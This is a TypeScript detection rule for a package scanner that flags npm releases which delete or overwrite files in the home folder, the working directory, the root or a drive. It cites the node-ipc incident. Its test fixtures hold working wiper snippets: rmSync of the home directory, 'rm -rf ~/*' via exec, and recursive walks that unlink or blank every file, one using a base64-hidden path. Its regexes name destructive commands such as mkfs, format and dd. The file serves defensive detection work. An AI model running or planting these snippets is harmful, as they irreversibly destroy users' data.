/**
 * Wiping: deleting or overwriting whatever lies in the home folder, the working directory, the root or a drive. It is
 * recognised by where the paths come from: a broad place, walked or taken as a whole, not the package's own files.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const filesDestroyed: Rule = defineRule({
  id: 'files-destroyed',
  family: 'code',
  title: 'Files of the user are deleted or overwritten',
  rationale: 'What is lost in the home folder, the project or the disk cannot be had back.',
  remedy: 'Do not install this version anywhere. Stay on the old one and report the release.',
  level: 'block',
  incidents: [
    {
      what: 'node-ipc 10.1.1: every file above the working directory overwritten, for some addresses',
      when: '2022-03-07',
      url: 'https://snyk.io/blog/peacenotwar-malicious-npm-node-ipc-package-vulnerability/',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors'],
  kinds: {
    'home-written': {
      level: 'review',
      about: 'A file in the home folder is written or deleted at load or on installation, outside its cache folders.',
    },
    'when-called': { level: 'review', about: 'It happens only when a user of the package calls the function.' },
  },
  flags: [
    {
      title: 'a function that deletes all of the home folder, and one that empties the root',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.clean = () => require('fs').rmSync(require('os').homedir(), { recursive: true });
exports.reset = () => require('child_process').exec('rm -rf ~/*');
`,
      },
      expect: [
        {
          message: 'fs.rmSync deletes <home>',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'clean()'],
        },
        {
          message: 'child_process.exec runs a command that destroys files: rm -rf ~/*',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'reset()'],
        },
      ],
    },
    {
      title: 'a walk from the folder above that overwrites what it meets',
      before: { 'index.js': '' },
      after: {
        'index.js': `const fs = require('fs');
const path = require('path');
function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.lstatSync(file).isDirectory()) walk(file);
    else fs.writeFileSync(file, '');
  }
}
walk(Buffer.from('Li4v', 'base64').toString());
`,
      },
      expect: [
        {
          message: 'fs.writeFileSync overwrites every file of a walk over a broad place',
          at: { in: 'tarball', path: 'index.js', line: 7 },
          via: ['main', 'index.js', 'walk()'],
        },
      ],
    },
    {
      title: 'the root walked, paths put together by hand',
      before: { 'index.js': '' },
      after: {
        'index.js': `const fs = require('fs');
function walk(folder) {
  fs.readdirSync(folder).forEach((name) => {
    const inside = folder + '/' + name;
    if (fs.lstatSync(inside).isDirectory()) walk(inside);
    else fs.unlinkSync(inside);
  });
}
walk('/');
`,
      },
      expect: [
        {
          message: 'fs.unlinkSync deletes every file of a walk over a broad place',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', 'walk()', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'the home folder deleted, by function and by command',
      before: { 'index.js': '' },
      after: {
        'index.js': `const os = require('os');\nrequire('fs').rmSync(os.homedir(), { recursive: true, force: true });\nrequire('child_process').exec('rm -rf ~/');\n`,
      },
      expect: [
        {
          message: 'fs.rmSync deletes <home>',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          message: 'child_process.exec runs a command that destroys files: rm -rf ~/',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a file put on the desktop at load',
      before: { 'index.js': '' },
      after: {
        'index.js': `import { homedir } from 'os';\nimport fs from 'fs';\nconst put = (path, text) => fs.writeFile(path, text, () => {});\nput(\`\${homedir()}/Desktop/note.txt\`, 'a note');\n`,
      },
      expect: [
        {
          kind: 'home-written',
          message: 'fs.writeFile writes <home>/Desktop/note.txt',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'put()'],
        },
      ],
    },
    {
      title: 'the working directory deleted by a function that users call',
      before: { 'index.js': '' },
      after: { 'index.js': `exports.reset = () => require('fs').rmSync(process.cwd(), { recursive: true });\n` },
      expect: [
        {
          kind: 'when-called',
          message: 'fs.rmSync deletes <cwd>',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'reset()'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'a file of its own in the working directory, whose path a function of its own joins',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const fs = require('fs');
const join = (...parts) => {
  let path = '';
  for (const part of parts) {
    if (path.length > 0) path += '/' + part;
    else path += part;
  }
  return path;
};
exports.run = (code) => {
  const file = join(process.cwd(), Date.now() + '.mjs');
  fs.writeFileSync(file, code);
  return import(file).finally(() => fs.unlink(file, () => {}));
};
`,
      },
    },
    {
      title: 'own folders, temporary folders, caches, and a cleaner that users call with a folder of theirs',
      before: { 'index.js': '' },
      after: {
        'index.js': `
const fs = require('fs');
const os = require('os');
const path = require('path');
fs.rmSync(path.join(__dirname, 'dist'), { recursive: true, force: true });
fs.writeFileSync(path.join(os.tmpdir(), 'probe'), '');
fs.mkdirSync(path.join(os.homedir(), '.cache/tool'), { recursive: true });
fs.writeFileSync(path.join(os.homedir(), '.cache/tool/state.json'), '{}');
exports.clean = (folder) => fs.rmSync(folder, { recursive: true });
exports.tidy = () => fs.readdirSync(process.cwd()).forEach((name) => fs.rmdirSync(path.join(process.cwd(), name)));
exports.empty = (folder) => fs.readdirSync(folder).forEach((name) => fs.unlinkSync(path.join(folder, name)));
exports.emptyAll = function emptyAll(folder) {
  fs.readdirSync(folder).forEach((name) => {
    const inside = folder + '/' + name;
    if (fs.lstatSync(inside).isDirectory()) emptyAll(inside);
    else fs.unlinkSync(inside);
  });
};
`,
      },
    },
  ],
  check({ behaviors }) {
    return behaviors.added.flatMap((behavior): Evidence<'home-written' | 'when-called'>[] => {
      if (behavior.tier === 'unreached') return [];
      const early = behavior.tier !== 'call';
      const seen = describeDestruction(behavior);
      if (seen !== undefined)
        return [evidenceOf(behavior, seen, early || destroysAll(behavior) ? undefined : 'when-called')];
      if (!early || behavior.root === 'bin' || !isInHome(behavior)) return [];
      const act = behavior.kind === 'file-delete' ? 'deletes' : 'writes';
      return [evidenceOf(behavior, `${behavior.api} ${act} ${shorten(behavior.detail ?? '')}`, 'home-written')];
    });
  },
});

/** Commands whose only use is to destroy: all of home, root, the working directory or a drive. */
const destructiveCommand =
  /\brm\s+(?:-\w+\s+){0,3}-\w*[rR]\w*\s+(?:-\w+\s+){0,3}(?:--\w[\w-]*\s+){0,2}["']?(?:~|\/|\$HOME|\$\{HOME\}|<home>|<cwd>|\.|\*)["']?(?:[\\/]?\*?)(?:\s|$|;|&)|\bshred\s+-|\bcipher(?:\.exe)?\s+\/w|\b(?:del|rd|rmdir)(?:\s+\/[a-z])+\s+["']?(?:%USERPROFILE%|[A-Za-z]:)[\\/]?|\bformat\s+[A-Za-z]:|\bmkfs\b|\bdd\s+if=\/dev\/(?:zero|u?random)\s+of=\/dev\//i;

function describeDestruction({ kind, api, detail, marks }: Behavior): string | undefined {
  if (kind === 'child-process') {
    return detail !== undefined && destructiveCommand.test(detail)
      ? `${api} runs a command that destroys files: ${shorten(detail, 120)}`
      : undefined;
  }
  if (kind !== 'file-delete' && kind !== 'file-write') return undefined;
  if (!marks.includes('broad-target')) return undefined;
  // Without more it removes empty folders, and refuses all others.
  if (/\.rmdir(?:Sync)?$/.test(api) && !marks.includes('recursive')) return undefined;
  if (marks.includes('in-walk')) {
    return `${api} ${kind === 'file-delete' ? 'deletes' : 'overwrites'} every file of a walk over a broad place`;
  }
  // A folder is no file, and stays: what was joined to it only the text does not tell.
  if (kind !== 'file-delete' || /\.unlink(?:Sync)?$/.test(api)) return undefined;
  return `${api} deletes ${shorten(detail ?? 'a broad place')}`;
}

/** All of home, the root or a drive, and nothing that a caller names: nobody's function is there for that. */
function destroysAll({ kind, detail, origins, marks }: Behavior): boolean {
  if (detail === undefined || origins.includes('parameter')) return false;
  if (kind === 'child-process') return wholeCommand.test(detail);
  return kind === 'file-delete' && marks.includes('recursive') && /^(?:<home>|~|[\\/]|[A-Za-z]:[\\/]?)$/.test(detail);
}

const wholeCommand =
  /(?:^|[;&|]\s*)(?:sudo\s+)?rm\s+(?:-\w+\s+)*-\w*[rR]\w*\s+(?:-\w+\s+)*(?:--no-preserve-root\s+)?["']?(?:~|\/|\$HOME|\$\{HOME\}|<home>)["']?(?:[\\/]?\*)?(?:\s|$|;|&)/;

function isInHome({ kind, detail }: Behavior): boolean {
  if (kind !== 'file-delete' && kind !== 'file-write') return false;
  return (
    detail !== undefined &&
    /^(?:<home>|~|\$HOME)[\\/]/.test(detail) &&
    !/^[^\\/]+[\\/]+\.(?:cache|config|local)\b/.test(detail)
  );
}
